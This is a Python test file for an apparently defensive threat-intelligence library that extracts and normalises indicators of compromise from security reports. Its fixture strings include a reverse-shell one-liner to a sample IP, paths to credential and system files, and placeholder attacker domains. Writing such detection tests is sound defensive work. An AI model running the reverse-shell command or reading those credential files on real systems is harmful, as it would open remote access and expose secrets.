"""Proves which values are taken from a text, in which normal form, and which look-alikes are not."""

import pytest

from tidewaiter.intel.article import Article, Block, BlockKind
from tidewaiter.intel.briefing import REPORTED
from tidewaiter.intel.indicators import indicators_of
from tidewaiter.intel.keccak import keccak256
from tidewaiter.intel.refang import refang
from tidewaiter.intel.wallets import currency_of

THREAT = "The malware is a backdoor of a botnet; its operators steal credentials."


def values(text: str, kind: BlockKind = "paragraph") -> set[tuple[str, str]]:
    """What an article about an attack reports from one more block."""
    article = Article("A report", (Block("paragraph", THREAT, 0), Block(kind, text, len(THREAT) + 1)))
    return {(each.type, each.value) for each in indicators_of(article)[0] if each.disposition in REPORTED}


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("hxxps[://]evil[.]com[/]a", "https://evil.com/a"),
        ("hXXp://1.2.3[.]4[:]80/x", "http://1.2.3.4:80/x"),
        ("h**p://a[.com", "http://a.com"),
        ("http[s]://a.com", "https://a.com"),
        ("hxxp:\\\\x.com", "http://x.com"),
        ("evil[.com]/x", "evil.com/x"),
        ("bob [at] evil (dot) com", "bob@evil.com"),
        ("a[[.]]com", "a.com"),
        ("evil\\.name\\.com", "evil.name.com"),
        ("evil\u200b.com", "evil.com"),
        ("tcp[:]//x", "tcp://x"),
        ("C:\\a\\.ssh and arr[0]", "C:\\a\\.ssh and arr[0]"),
        ("the (at) least [1] of {it}", "the@least [1] of {it}"),
    ],
)
def test_writing_that_nobody_follows_becomes_plain(written: str, plain: str) -> None:
    """And every place leads back to the original."""
    found = refang(written)
    assert found.text == plain
    assert found.written(0, len(plain)) == written


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("C2: 203.0.114.9:8443", ("ipv4", "203.0.114.9")),
        ("It connects to 45.1.2.3 on port 4444.", ("ipv4", "45.1.2.3")),
        ("bash -i >& /dev/tcp/45.1.2.3/9001 0>&1", ("ipv4", "45.1.2.3")),
        ("It beacons to [2a0e:b107:0:0::7]:443.", ("ipv6", "2a0e:b107::7")),
        ("It contacts EVIL-Name.top daily.", ("domain", "evil-name.top")),
        ("It resolves b\u00fccher-login.com.", ("domain", "xn--bcher-login-thb.com")),
        ("It contacts *.evil-name.biz", ("domain", "evil-name.biz")),
        ("It contacts lenders.digital and x.monster", ("domain", "lenders.digital")),
        ("It downloads evil-name[.]ru/a/b.php.", ("url", "evil-name.ru/a/b.php")),
        ("It downloads (hxxp://evil-name[.]ru/a_(1).php).", ("url", "http://evil-name.ru/a_(1).php")),
        ("Phishing from Bob.K@Evil-Name.com.", ("email", "bob.k@evil-name.com")),
        ("The flaw is CVE\u20112031\u201112345.", ("cve", "CVE-2031-12345")),
        (
            "It writes HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon.",
            ("registry_key", "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"),
        ),
        (
            "It drops C:\\Program Files\\Common Files\\x y\\bad.exe there.",
            ("file_path", "C:\\Program Files\\Common Files\\x y\\bad.exe"),
        ),
        ("The malware drops /tmp/.x/kd.", ("file_path", "/tmp/.x/kd")),  # noqa: S108 - the text of a report
        ("The dropper is kd-loader.sh.", ("file_name", "kd-loader.sh")),
        ("The malicious image evil/miner:v1 runs.", ("image", "evil/miner:v1")),
        ("The malicious image docker.io/evil/miner.", ("image", "evil/miner")),
        ("The malicious PyPI package Req_uests-X.", ("package", "req-uests-x")),
    ],
)
def test_values_have_a_normal_form(text: str, expected: tuple[str, str]) -> None:
    """Refanged, in lower case where case means nothing, without the sentence's punctuation."""
    assert expected in values(text)


@pytest.mark.parametrize(
    "text",
    [
        "It is written in node.js with setup.py, README.md, main.go, config.sh and lib.rs.",
        "It uses os.path, System.Net, ASP.NET, socket.io, process.name, user.id and java.io here.",
        "The class org.apache.commons.io.FileUtils is in com.example.app.zip.",
        "Version 10.2.3.4 and Chrome/96.0.4664.110, agent 1.2.3.4 or later, v2.3.4.5.",
        "It was fixed in commit 0123456789abcdef0123456789abcdef01234567 of the tool.",
        "The id is 123e4567-e89b-12d3-a456-426614174000 and the mutex 0123456789abcdef0123456789abcdef.",
        "It pings 127.0.0.1, 10.1.2.3, 192.168.0.9, 169.254.169.254 and 8.8.8.8.",
        "It checks google.com, www.microsoft.com and registry-1.docker.io.",
        "d41d8cd98f00b204e9800998ecf8427e is in the list.",
        "It reads /etc/passwd, /proc/self/environ and ~/.aws/credentials by /bin/sh.",
        "At 12:30:45 the MAC was 00:11:22:33:44:55 and std::string was used.",
        "Set git@github.com:org/repo as the remote; e.g. this, i.e. that, at 5 p.m.in Rome.",
        "imphash 0123456789abcdef0123456789abcdef; JA3: 0123456789abcdef0123456789abcdee",
    ],
)
def test_look_alikes_are_not_reported(text: str) -> None:
    """Files, code, versions, ids, services that everybody uses, and addresses that nobody owns."""
    assert values(text) == set()


def test_hash_that_a_narrow_column_broke_is_joined() -> None:
    """Only where the column's name promises that length."""
    first, second = "3d9a5f7e21c04b8896f0d1e2a3b4c5d6", "e7f8091a2b3c4d5e6f708192a3b4c5d6"
    cell = f"{first} {second}"
    for column, kinds in (("SHA256", {"sha256"}), ("MD5", {"md5"})):
        block = Block("table", cell, 0, ("Indicators of compromise",), (cell,), (column,))
        reported, _ = indicators_of(Article("Malware", (block,)))
        assert kinds <= {each.type for each in reported}
    assert ("sha256", first + second) not in values(cell)


@pytest.mark.parametrize(
    ("address", "currency"),
    [
        ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "bitcoin"),
        ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3", None),
        ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "bitcoin"),
        ("bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr", "bitcoin"),
        ("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdr", None),
        ("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "ethereum"),
        ("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD", None),
        (
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "monero",
        ),
    ],
)
def test_wallets_hold_their_checksum(address: str, currency: str | None) -> None:
    """Addresses from the documentation of their currencies, and the same with one character changed."""
    assert currency_of(address) == currency


def test_keccak_is_the_one_before_sha3() -> None:
    """Against the published value for no bytes at all."""
    assert keccak256(b"").hex() == "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("The malware pushed hub.badcorp.io/a0s/cache to a registry.", {("image", "hub.badcorp.io/a0s/cache")}),
        ("It then pulls the cr.evil.top:5000/t/agent.", {("image", "cr.evil.top:5000/t/agent")}),
        ("The malicious reg.drop.top/x/y image mines.", {("image", "reg.drop.top/x/y")}),
        ("The malware runs cdn.evil.top/loader:1.2 there.", {("image", "cdn.evil.top/loader:1.2")}),
        ("The malware calls panel.evil.top/a/b.", {("url", "panel.evil.top/a/b"), ("domain", "panel.evil.top")}),
        ("The malware pulled evil.top/a/b.sh.", {("url", "evil.top/a/b.sh"), ("domain", "evil.top")}),
        ("The malware pushed to.evil.top/up?x=1.", {("url", "to.evil.top/up?x=1"), ("domain", "to.evil.top")}),
    ],
)
def test_an_image_at_an_unknown_registry_is_no_page(text: str, expected: set[tuple[str, str]]) -> None:
    """What is pushed or pulled, or called an image, or has a tag; its registry is no indicator of its own."""
    assert values(text) == expected


def test_a_repository_of_code_that_is_pulled_is_no_image() -> None:
    """Forges hold code."""
    assert not {kind for kind, _ in values("The malware pulled github.com/evil/tool from the net.")} & {"image"}
